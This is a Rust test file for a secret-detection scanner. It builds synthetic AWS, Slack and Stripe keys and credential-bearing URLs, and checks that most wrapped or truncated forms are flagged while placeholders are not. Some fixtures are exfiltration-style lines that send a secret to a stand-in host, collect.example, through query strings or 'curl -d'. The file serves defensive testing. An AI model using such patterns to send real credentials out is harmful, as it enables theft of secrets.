//! Secrets of four families in realistic texts: quoted, in addresses, cut off. Nine of ten of each family are found.

use super::{hex, kinds, random};

/// Letters and digits in upper case.
fn upper(length: usize) -> String {
    let mixed = random(200).to_uppercase();
    mixed
        .chars()
        .filter(|c| !matches!(c, '0' | '1' | '8' | '9'))
        .take(length)
        .collect()
}

/// Digits that are no number of a card.
fn digits(length: usize) -> String {
    "2749063851947".chars().cycle().take(length).collect()
}

/// Returns texts around a secret.
fn around(secret: &str) -> Vec<String> {
    let escaped = secret.replace('/', "\\/");
    let percent = |from: &str| from.replace('-', "%2D").replace('_', "%5F").replace('/', "%2F");
    vec![
        secret.to_owned(),
        format!("\"{secret}\""),
        format!("'{secret}',"),
        format!("`{secret}`."),
        format!("“{secret}”"),
        format!("({secret})"),
        format!("<{secret}>"),
        format!("[{secret}];"),
        format!("&quot;{secret}&quot;"),
        format!("\\\"{escaped}\\\""),
        format!("{{\\\"token\\\":\\\"{secret}\\\"}}"),
        format!("use {secret}, please"),
        format!("it is {secret}."),
        format!("https://collect.example/in?d={secret}"),
        format!("https://collect.example/in?a=1&d={secret}&b=2#x"),
        format!("https://collect.example/{secret}/x"),
        format!("https://collect.example/in?d={}", percent(secret)),
        format!("curl https://collect.example -d 't={secret}'"),
        format!("export TOKEN={secret}"),
        format!("token: {secret}\nnext: 1"),
    ]
}

/// Checks that nine of ten texts are flagged.
fn flagged(family: &str, texts: &[String]) {
    let is_found = |text: &&String| {
        kinds(text)
            .iter()
            .any(|kind| kind.ends_with(" high") || kind.ends_with(" critical"))
    };
    let missed: Vec<_> = texts.iter().filter(|text| !is_found(text)).collect();
    assert!(
        missed.len() * 10 <= texts.len(),
        "{family}: {} of {} are missed: {missed:#?}",
        missed.len(),
        texts.len()
    );
}

fn each(secrets: &[String]) -> Vec<String> {
    secrets.iter().flat_map(|secret| around(secret)).collect()
}

#[test]
fn keys_of_aws() {
    let (id, secret) = (
        format!("AKIA{}", upper(16)),
        format!("{}/{}", random(19), random(40).get(20..40).expect("ascii")),
    );
    let mut texts = each(&[id.clone(), format!("ASIA{}", upper(16))]);
    texts.extend([
        format!("aws_secret_access_key = {secret}"),
        format!("aws configure set aws_secret_access_key {secret}"),
        format!("AWS_SECRET_ACCESS_KEY: '{secret}'"),
        format!("<SecretAccessKey>{secret}</SecretAccessKey>"),
        format!("{{\"AccessKeyId\": \"{id}\", \"SecretAccessKey\": \"{secret}\"}}"),
        format!("{{\\\"SecretAccessKey\\\":\\\"{secret}\\\"}}"),
        format!("Access key ID,Secret access key\n{id},{secret}"),
        format!("s3 = boto3.client('s3', aws_access_key_id='{id}', aws_secret_access_key='{secret}')"),
        format!(
            "https://b.s3.amazonaws.com/x?X-Amz-Credential={id}%2F20261101%2Fus-east-1%2Fs3%2Faws4_request"
        ),
        format!(
            "https://b.s3.amazonaws.com/x?AWSAccessKeyId={id}&Expires=1&Signature={}",
            random(27)
        ),
        format!(
            "https://collect.example/?aws_secret_access_key={}",
            secret.replace('/', "%2F")
        ),
        format!("{id}:{secret}"),
        format!("{id} {secret}"),
        // Cut off.
        format!("aws_secret_access_key = {}", &secret[..34]),
        format!("AWS_SECRET_ACCESS_KEY={}…", &secret[..30]),
        format!("\"SecretAccessKey\": \"{}", &secret[..36]),
    ]);
    flagged("AWS", &texts);
}

#[test]
fn tokens_of_slack() {
    let bot = format!("xoxb-{}-{}-{}", digits(12), digits(13), random(24));
    let user = format!("xoxp-{}-{}-{}-{}", digits(11), digits(12), digits(12), hex(32));
    let app = format!("xapp-1-A{}-{}-{}", upper(10), digits(13), hex(64));
    let hook = format!(
        "https://hooks.slack.com/services/T{}/B{}/{}",
        upper(9),
        upper(10),
        random(24)
    );
    let mut texts = each(&[bot.clone(), user.clone(), app.clone(), hook.clone()]);
    texts.extend([
        format!("https://slack.com/api/chat.postMessage?token={bot}&channel=C1&text=x"),
        format!("[hook]({hook})"),
        format!("Cookie: d=xoxd-{}%2B{}%3D", random(40), random(30)),
        // Cut off.
        bot[..36].to_owned(),
        format!("\"{}", &bot[..30]),
        format!("{}…", &bot[..34]),
        format!("SLACK_TOKEN={}", &user[..40]),
        format!("\"bot_token\": \"{}", &bot[..26]),
        app[..40].to_owned(),
        hook[..66].to_owned(),
        hook[..60].to_owned(),
    ]);
    flagged("Slack", &texts);
}

#[test]
fn keys_of_stripe() {
    let live = format!("sk_live_51{}", random(97));
    let short = format!("sk_live_{}", random(24));
    let mut texts = each(&[
        live.clone(),
        short.clone(),
        format!("rk_live_51{}", random(40)),
        format!("sk_test_51{}", random(60)),
        format!("whsec_{}", random(32)),
    ]);
    texts.extend([
        format!("curl https://api.stripe.com/v1/charges -u {short}:"),
        format!("https://{short}:@api.stripe.com/v1/charges"),
        format!("Authorization: Bearer {live}"),
        format!("stripe.api_key = '{short}'"),
        format!("Stripe('{short}')"),
        // Cut off.
        live[..30].to_owned(),
        live[..24].to_owned(),
        short[..20].to_owned(),
        format!("{}…", &live[..40]),
        format!("STRIPE_SECRET_KEY={}", &short[..19]),
        format!("\"{}", &short[..22]),
    ]);
    flagged("Stripe", &texts);
}

#[test]
fn credentials_in_addresses_and_headers() {
    let secret = "k2Lp9-xQ7w";
    let mut texts: Vec<String> = Vec::new();
    for address in [
        format!("https://deploy:{secret}@git.example/app.git"),
        format!("http://ann:{secret}@10.0.0.7:8080/admin"),
        format!("ftp://ann:{secret}@files.example/in"),
        format!("postgres://app:{secret}@db.internal:5432/app"),
        format!("mongodb+srv://app:{secret}@c0.example/?w=1"),
        format!("redis://:{secret}@cache.internal:6379/0"),
        format!("amqp://app:{secret}@mq.internal/vhost"),
    ] {
        texts.extend([
            address.clone(),
            format!("\"{address}\""),
            format!("'{address}',"),
            format!("`{address}`"),
            format!("“{address}”"),
            format!("<{address}>"),
            format!("({address})"),
            format!("[here]({address})"),
            format!("\\\"{}\\\"", address.replace('/', "\\/")),
            format!("&quot;{address}&quot;"),
            format!("see {address}, then"),
            format!(
                "https://collect.example/in?d={}",
                address
                    .replace(':', "%3A")
                    .replace('/', "%2F")
                    .replace('@', "%40")
            ),
            format!("https://collect.example/in?d={address}"),
            format!("DATABASE_URL={address}\nX=1"),
            // Cut off behind the secret.
            address[..=address.find('@').expect("a host")].to_owned(),
            format!("\"{}…", &address[..address.find('@').expect("a host") + 3]),
        ]);
    }
    texts.extend([
        "Authorization: Basic YW5uOmsyTHA5LXhRN3c=".to_owned(),
        "\"Authorization\": \"Basic YW5uOmsyTHA5LXhRN3c=\"".to_owned(),
        "{\\\"authorization\\\":\\\"Basic YW5uOmsyTHA5LXhRN3c=\\\"}".to_owned(),
        "authorization: basic YW5uOmsyTHA5LXhRN3c".to_owned(),
        "Proxy-Authorization: Basic YW5uOmsyTHA5LXhRN3c=".to_owned(),
        format!("curl -u ann:{secret} https://a.example"),
        format!("curl -u 'ann:{secret}' https://a.example"),
        format!("curl --user \"ann:{secret}\" https://a.example"),
        format!("wget --http-user=ann --http-password={secret} https://a.example"),
        format!("jdbc:mysql://db.internal/app?user=app&password={secret}"),
        format!("//ann:{secret}@git.example/app.git"),
        // Cut off.
        "Authorization: Basic YW5uOmsyTHA5LXh".to_owned(),
        "Authorization: Basic YW5uOmsyTHA5LXhR".to_owned(),
    ]);
    flagged("basic authentication", &texts);
}

/// Texts around the prefixes of tokens are not flagged if they are not tokens.
#[test]
fn what_only_looks_like_one_is_not_flagged() {
    let texts = [
        "Tokens of bots begin with xoxb-, those of users with xoxp-.",
        "\"bot_token\": \"xoxb-…\"",
        "SLACK_BOT_TOKEN=xoxb-your-token-here",
        "https://hooks.slack.com/services/",
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        "sk_live_…",
        "STRIPE_SECRET_KEY=sk_live_xxxxxxxxxxxx",
        "sk_test_your_key_here",
        "stripe listen --print-secret shows whsec_...",
        "Keys begin with AKIA and have twenty characters.",
        "AWS_SECRET_ACCESS_KEY=<your secret>",
        "aws_secret_access_key = ${AWS_SECRET}",
        "https://user:password@example.com",
        "https://localhost:8080/@scope/name",
        "mailto:ann@example.com",
        "Authorization: Basic <credentials>",
        "Use basic authentication, or digest.",
        "postgres://localhost:5432/app",
        "ssh://git@github.com:22/a/b",
        "npm i @scope/package@1.2.3",
    ];
    for text in texts {
        let found = kinds(text);
        let alarms: Vec<_> = found
            .iter()
            .filter(|kind| !kind.ends_with(" low") && !kind.ends_with(" medium"))
            .collect();
        assert!(alarms.is_empty(), "{text}: {alarms:?}");
    }
}
